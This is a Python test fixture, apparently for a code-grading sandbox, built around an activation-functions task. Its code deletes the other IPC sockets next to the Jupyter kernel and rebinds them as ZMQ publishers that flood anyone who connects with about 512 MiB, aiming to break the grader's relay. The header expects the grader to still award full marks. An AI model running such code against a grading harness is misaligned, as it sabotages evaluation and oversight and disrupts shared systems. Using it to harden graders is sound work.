# Replaces every socket in its connection file's folder that is not one of its own kernel's with its own XPUB,
# which answers whoever connects with one message of 64 frames of 8 MiB. The grader's side of the relay
# (kernel_relay.py) must be out of the sandbox's sight: if the grader connected here, the message would reach
# the grader's own zmq whole, and the checks' replies would never arrive (relu, sigmoid, tanh... would score 0).
# expect: full marks
# base: ../activations/correct_np_where
# %% end
import json
import os
import stat
import threading

import zmq
from ipykernel.connect import get_connection_file

_info = json.load(open(get_connection_file()))
_own = {f"{_info['ip']}-{_info[name]}" for name in _info if name.endswith("_port")}
_folder = os.path.dirname(_info["ip"])
_frame = zmq.Frame(b"z" * (8 * 2**20))
_context = zmq.Context()


def _answer(socket):
    while True:
        socket.recv()  # a subscription: somebody connected
        socket.send_multipart([b"flood", b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"] + [_frame] * 64, copy=False)


for _name in os.listdir(_folder):
    _path = os.path.join(_folder, _name)
    if _path in _own or not stat.S_ISSOCK(os.lstat(_path).st_mode):
        continue
    os.unlink(_path)
    _socket = _context.socket(zmq.XPUB)
    _socket.bind(f"ipc://{_path}")
    threading.Thread(target=_answer, args=(_socket,), daemon=True).start()
    print("replaced", _name)
